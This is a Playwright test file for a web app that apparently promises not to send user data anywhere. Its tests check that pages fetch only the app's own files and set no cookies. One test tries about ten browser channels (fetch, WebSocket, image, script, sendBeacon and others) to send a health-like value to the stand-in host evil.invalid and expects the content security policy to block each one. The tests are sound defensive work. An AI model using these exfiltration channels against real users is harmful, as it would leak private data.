import { existsSync } from 'node:fs'
import type { Request } from '@playwright/test'
import { privacyWords } from '../../src/content/en/index.ts'
import { shell } from '../../scripts/build/headers.mjs'
import { expect, test as journey } from '../support/journey.ts'
import { aWellAdultInTheUk } from '../support/people.ts'
import { openWire, type Wire } from '../support/wire.ts'
import { screenStates } from '../support/screen-states.ts'

const test = journey.extend<{ wire: Wire }>({
  // eslint-disable-next-line no-empty-pattern
  wire: async ({}, use) => {
    const wire = await openWire()
    await use(wire)
    await wire.close()
  },
  proxy: async ({ wire }, use) => use({ server: wire.server, bypass: '<-loopback>' }),
})

/** The file that a static host answers a path with. */
const fileOf = (path: string) =>
  [path, `${path}.html`, `${path}index.html`].find(
    (name) => /\.\w+$/.test(name) && existsSync(`dist${name}`),
  ) ?? shell

const oneOfEach = new Map(screenStates.map((state) => [state.path, state])).values()

const isOurs = (address: string, baseURL = '') => new URL(address).origin === baseURL

test.describe('with the worker, as for any person', () => {
  test.use({ serviceWorkers: 'allow' })

  test('on a walk through all screens nothing is asked for but our own files', async ({
    page,
    person,
    context,
    baseURL,
    wire,
  }) => {
    test.setTimeout(240_000)
    const requests: Request[] = []
    context.on('request', (request) => requests.push(request))
    await page.goto('/')
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined))
    for (const { path, answers } of oneOfEach) await person.open(path, answers, true)
    await person.open('/')
    await person.start()
    await person.answerAll(aWellAdultInTheUk)
    await person.confirm()

    const strange = requests
      .filter((request) => {
        const { pathname, search, hash } = new URL(request.url())
        // A page may have any path. All else is a file of the build.
        const isFile = request.isNavigationRequest() || existsSync(`dist${fileOf(pathname)}`)
        const isPlain = request.method() === 'GET' && request.postData() === null && search + hash === ''
        return !isOurs(request.url(), baseURL) || !isFile || !isPlain
      })
      .map((request) => `${request.method()} ${request.url()}`)
    expect(strange).toEqual([])
    // The worker was seen at work, and the page too.
    expect(requests.filter((request) => request.serviceWorker()).length).toBeGreaterThan(50)
    expect(requests.filter((request) => !request.serviceWorker()).length).toBeGreaterThan(50)

    expect(wire.asked.length).toBeGreaterThan(50)
    expect(wire.asked.filter((line) => !line.startsWith(`GET ${baseURL}/`))).toEqual([])
    expect(wire.withCookies).toEqual([])
    expect(await context.cookies()).toEqual([])
  })
})

test('the privacy screen counts what the browser fetched, while it is fetched', async ({
  page,
  person,
  baseURL,
}) => {
  const fetched = new Set<string>()
  page.on('request', (request) => fetched.add(request.url()))
  await page.goto('/privacy')
  await page.waitForLoadState('networkidle')
  const count = page.getByText(privacyWords.sent.fetched(fetched.size))
  await expect(count).toBeVisible()
  await expect(count).toContainText(privacyWords.sent.elsewhere(0))
  expect([...fetched].filter((address) => !isOurs(address, baseURL))).toEqual([])
  await expect(person.heading()).toBeVisible()
})

test('nothing that runs in a page can send anything, whatever it tries', async ({ page, witness, wire }) => {
  await page.goto('/')
  await page.waitForLoadState('networkidle')
  const before = wire.asked.length
  const gotOut = await page.evaluate(async () => {
    const place = 'https://evil.invalid/?chest=pressure'
    const here = `${location.origin}/robots.txt?chest=pressure`
    const { head } = document
    const fails = (target: EventTarget) =>
      new Promise((resolve, reject) => {
        target.addEventListener('error', reject)
        target.addEventListener('load', resolve)
        if (target instanceof HTMLElement) head.append(target)
      })
    const call = (asking: XMLHttpRequest) => {
      asking.open('POST', here)
      asking.send('chest=pressure')
      return fails(asking)
    }
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(place, { method: 'POST', mode: 'no-cors' }),
      'fetch here': () => fetch(here),
      'XMLHttpRequest here': () => call(new XMLHttpRequest()),
      EventSource: () => fails(new EventSource(place)),
      WebSocket: () => fails(new WebSocket('wss://evil.invalid')),
      image: () => fails(Object.assign(new Image(), { src: place })),
      sheet: () => fails(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: place })),
      script: () => fails(Object.assign(document.createElement('script'), { src: place })),
      module: () => import(/* @vite-ignore */ place),
    }
    // Says yes before it looks at the policy. The line shows that it goes nowhere.
    navigator.sendBeacon(place, 'chest=pressure')
    const out: string[] = []
    for (const [name, way] of Object.entries(ways)) {
      try {
        await way()
        out.push(name)
      } catch {
        continue
      }
    }
    return out
  })
  expect(gotOut).toEqual([])
  expect(wire.asked.slice(before)).toEqual([])
  witness.console.length = 0
  witness.requests.length = 0
})

test.describe('without its policy', () => {
  test.use({ bypassCSP: true })

  test('the same would be noticed on the line', async ({ page, witness, wire }) => {
    await page.goto('/')
    await page.evaluate(() => fetch('http://evil.invalid/?chest=pressure').catch(() => undefined))
    await page.evaluate(() => fetch('https://evil.invalid/?chest=pressure').catch(() => undefined))
    expect(wire.asked).toContain('GET http://evil.invalid/?chest=pressure')
    expect(wire.asked).toContain('CONNECT evil.invalid:443')
    witness.console.length = 0
    witness.requests.length = 0
  })
})
